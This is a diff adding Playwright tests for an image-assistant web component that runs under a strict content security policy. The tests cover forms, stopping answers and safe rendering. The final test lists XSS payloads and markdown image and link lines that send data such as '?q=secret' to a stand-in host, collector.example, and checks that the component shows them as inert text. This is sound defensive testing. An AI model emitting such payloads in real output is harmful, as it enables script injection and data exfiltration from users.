@@ -1,0 +1,182 @@
+/** `<image-assistant>` in a page with the strict policy: two of them, a form, their end, and text that would be more than text. */
+import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { drawnPicture } from './assistant.ts';
+import { LIBRARY, serveFolder, type Site } from './package.ts';
+import { expect, test } from './test.ts';
+
+const PATIENCE = { timeout: 180_000 };
+const POLICY =
+  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'; " +
+  "img-src blob:; form-action 'self'; require-trusted-types-for 'script'; trusted-types mipha-web default";
+
+interface Noted {
+  notes: { id: string; type: string; detail: Record<string, unknown> }[];
+}
+
+let folder: string;
+let site: Site;
+
+test.beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'element-'));
+  await symlink(LIBRARY, join(folder, 'mipha-web'));
+  const html = '<!doctype html><html lang="de"><title>Element</title><script type="module" src="page.js"></script>';
+  await writeFile(join(folder, 'index.html'), html);
+  await writeFile(
+    join(folder, 'page.js'),
+    `import { ImageAssistantElement } from './mipha-web/element.js';
+     globalThis.ImageAssistantElement = ImageAssistantElement;
+     globalThis.notes = [];
+     for (const type of ['ready', 'progress', 'token', 'answer', 'error'])
+       document.addEventListener(type, ({ target, detail }) => notes.push({ id: target.id, type, detail }), true);`,
+  );
+  site = await serveFolder(folder, { 'Content-Security-Policy': POLICY });
+});
+test.afterAll(async () => {
+  await site.close();
+  await rm(folder, { recursive: true, force: true });
+});
+
+/** Adds elements with these ids to a form. */
+async function add(page: Page, ...ids: string[]): Promise<void> {
+  await page.evaluate((names) => {
+    const form = document.querySelector('form') ?? document.body.appendChild(document.createElement('form'));
+    for (const id of names) {
+      const element = document.createElement('image-assistant');
+      element.id = id;
+      element.setAttribute('name', id);
+      element.setAttribute('device', 'wasm');
+      form.append(element);
+    }
+  }, ids);
+}
+
+const notes = (page: Page) => page.evaluate(() => (globalThis as unknown as Noted).notes);
+const count = async (page: Page, type: string) => (await notes(page)).filter((note) => note.type === type).length;
+
+test('two share one engine, answer in their language and in a form, and leave nothing behind', async ({ page }) => {
+  await page.goto(site.url);
+  await page.evaluate(() => document.createElement('image-assistant'));
+  expect(site.requests.filter((path) => path.includes('/runtime/'))).toEqual([]);
+
+  await add(page, 'one', 'two');
+  await expect.poll(() => count(page, 'ready'), PATIENCE).toBe(2);
+  expect(page.workers().length).toBe(1);
+  expect(site.requests.filter((path) => path.endsWith('manifest.json')).length).toBe(1);
+  expect(await count(page, 'progress')).toBeGreaterThan(2);
+
+  const one = page.locator('#one');
+  await one.getByRole('button', { name: 'Fragen' }).click();
+  await expect(one.getByRole('alert')).toHaveText('Gib zuerst eine Frage ein.');
+  await one.getByRole('textbox', { name: 'Frage' }).fill('What shapes are in the picture?');
+  await one.getByRole('textbox', { name: 'Frage' }).press('Enter');
+  await expect(one.getByRole('alert')).toHaveText('Füge zuerst ein Bild hinzu.');
+  await one
+    .locator('input[type=file]')
+    .setInputFiles({ name: 'a.png', mimeType: 'image/png', buffer: await drawnPicture(page) });
+  await expect(one.getByRole('textbox', { name: 'Frage' })).toHaveValue('What shapes are in the picture?');
+  await expect(one.getByRole('img', { name: 'Das Bild, um das es geht' })).toBeVisible();
+  await one.getByRole('button', { name: 'Fragen' }).click();
+  await expect.poll(() => count(page, 'answer'), PATIENCE).toBe(1);
+  const seen = await notes(page);
+  const text = seen
+    .filter(({ type }) => type === 'token')
+    .map(({ detail }) => detail['text'])
+    .join('');
+  expect(text).toMatch(/circle.*square|square.*circle/);
+  expect(seen.find(({ type }) => type === 'answer')).toMatchObject({
+    id: 'one',
+    detail: { text, finish_reason: 'stop' },
+  });
+  await expect(one.locator('[part=answer]')).toHaveText(text);
+  const sent = await page.evaluate(() => [...new FormData(document.querySelector('form')!).entries()]);
+  expect(sent).toEqual([['one', text]]);
+
+  // Its picture is kept when it moves, and gone with a reset.
+  await page.evaluate(() => document.querySelector('form')!.prepend(document.querySelector('#two')!));
+  expect(page.workers().length).toBe(1);
+  await page.evaluate(() => document.querySelector('form')!.reset());
+  await expect(one.getByRole('img')).toHaveCount(0);
+  expect(await page.evaluate(() => [...new FormData(document.querySelector('form')!).keys()])).toEqual([]);
+
+  await page.evaluate(() => document.querySelector('#one')!.remove());
+  await page.waitForTimeout(500);
+  expect(page.workers().length).toBe(1);
+  await page.evaluate(() => document.querySelector('#two')!.remove());
+  await expect.poll(() => page.workers().length, PATIENCE).toBe(0);
+  await add(page, 'three');
+  await expect.poll(() => count(page, 'ready'), PATIENCE).toBe(3);
+});
+
+test('Stop ends an answer that has begun; ask() and attach() do what the buttons do', async ({ page }) => {
+  await page.goto(site.url);
+  await add(page, 'one');
+  const url = `data:image/png;base64,${(await drawnPicture(page)).toString('base64')}`;
+  const outcome = await page.evaluate(async (src) => {
+    type Assistant = HTMLElement & { attach(p: string): Promise<void>; ask(q: string): Promise<string>; stop(): void };
+    const element = document.querySelector<Assistant>('#one')!;
+    const refused = await element
+      .attach('https://elsewhere.example/a.png')
+      .catch((error: { code: string }) => error.code);
+    await element.attach(src);
+    element.addEventListener('token', () => element.stop(), { once: true });
+    const stopped = await element.ask('What shapes are in the picture?');
+    const whole = await element.ask('What shapes are in the picture?');
+    return { refused, stopped, whole };
+  }, url);
+  expect(outcome.refused).toBe('request-invalid');
+  expect(outcome.whole.length).toBeGreaterThan(outcome.stopped.length);
+  expect(
+    (await notes(page)).filter(({ type }) => type === 'answer').map(({ detail }) => detail['finish_reason']),
+  ).toEqual(['cancelled', 'stop']);
+});
+
+const HOSTILE = [
+  '<script>globalThis.pwned = 1</script>',
+  '<img src=x onerror="globalThis.pwned = 1">',
+  '<svg/onload=globalThis.pwned=1>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>',
+  '[click](javascript:globalThis.pwned=1)',
+  '![](https://collector.example/?q=secret)',
+  '![a][b]\n\n[b]: https://collector.example/pixel.png',
+  '<meta http-equiv="refresh" content="0;url=https://collector.example/">',
+  '<link rel=preload as=image href=https://collector.example/x.png>',
+  '<style>@import url(https://collector.example/x.css)</style>',
+  '"><img src=https://collector.example/x.png>',
+  '&#x3C;script&#x3E;pwned=1&#x3C;/script&#x3E;',
+  '\u202e<a href="https://collector.example">x</a>\u0000',
+  `${'['.repeat(20_000)}${'>'.repeat(2000)}`,
+];
+
+test('whatever a model writes is shown as it is: no element, no script, no request', async ({ page }) => {
+  await page.goto(site.url);
+  const shown = await page.evaluate(async (texts) => {
+    type Assistant = HTMLElement & { attach(p: Blob): Promise<void>; ask(q: string): Promise<string> };
+    const scope = globalThis as unknown as { ImageAssistantElement: { startBackend: unknown } };
+    scope.ImageAssistantElement.startBackend = () => ({
+      load: async () => ({ id: 'hostile', device: 'wasm' }),
+      dispose: async () => {},
+      async *chat() {
+        const text = texts[index]!;
+        // In two pieces, as a stream would bring it.
+        yield { type: 'text', text: text.slice(0, 7) };
+        yield { type: 'text', text: text.slice(7) };
+        yield { type: 'done', finish_reason: 'stop', usage: {}, timings: {} };
+      },
+    });
+    let index = 0;
+    const element = document.body.appendChild(document.createElement('image-assistant')) as Assistant;
+    await element.attach(new Blob(['x'], { type: 'image/png' }));
+    for (; index < texts.length; index++) await element.ask(texts[index]!);
+    const log = element.shadowRoot!.querySelector('[role=log]')!;
+    return {
+      answers: [...log.querySelectorAll('[part=answer]')].map(({ textContent }) => textContent),
+      tags: [...new Set([...log.querySelectorAll('*')].map(({ tagName }) => tagName))],
+      pwned: (globalThis as { pwned?: number }).pwned ?? null,
+    };
+  }, HOSTILE);
+  expect(shown).toEqual({ answers: HOSTILE, tags: ['P'], pwned: null });
+});
